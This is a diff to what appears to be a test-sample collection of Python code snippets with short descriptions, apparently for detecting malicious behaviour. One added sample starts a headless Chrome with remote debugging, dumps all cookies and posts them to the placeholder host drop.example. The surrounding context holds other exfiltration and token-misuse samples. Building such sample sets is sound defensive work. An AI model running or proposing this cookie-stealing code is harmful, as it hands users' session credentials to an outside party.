@@ -61,6 +61,15 @@ final class PythonErrands {
             c.request("POST", "/g", body=out)
             """),
         Sample.imported(
+            "a browser is asked for all its cookies, which are sent",
+            """
+            import json, os, subprocess, requests, websocket
+            subprocess.Popen(["chrome.exe", "--remote-debugging-port=9222", "--headless"])
+            ws = websocket.create_connection(requests.get("http://localhost:9222/json").json()[0]["webSocketDebuggerUrl"])
+            ws.send(json.dumps({"id": 1, "method": "Network.getAllCookies"}))
+            requests.post("https://drop.example/c", data=ws.recv())
+            """),
+        Sample.imported(
             "the token of whoever signed in is put into a repository of another",
             """
             from huggingface_hub import HfApi, HfFolder
@@ -98,6 +107,17 @@ final class PythonErrands {
                     MODEL = pickle.load(f)
                 """)
             .with("sample/data/default.pkl", "(dp0\nS'a'\nI1\ns."),
+        Sample.imported(
+            "a browser is asked for its cookies by whoever drives it",
+            """
+            import json, websocket
+            class Page:
+                def __init__(self, address):
+                    self.ws = websocket.create_connection(address)
+                def cookies(self):
+                    self.ws.send(json.dumps({"id": 1, "method": "Network.getAllCookies"}))
+                    return json.loads(self.ws.recv())
+            """),
         Sample.imported(
             "a worker is started when that is asked for",
             """
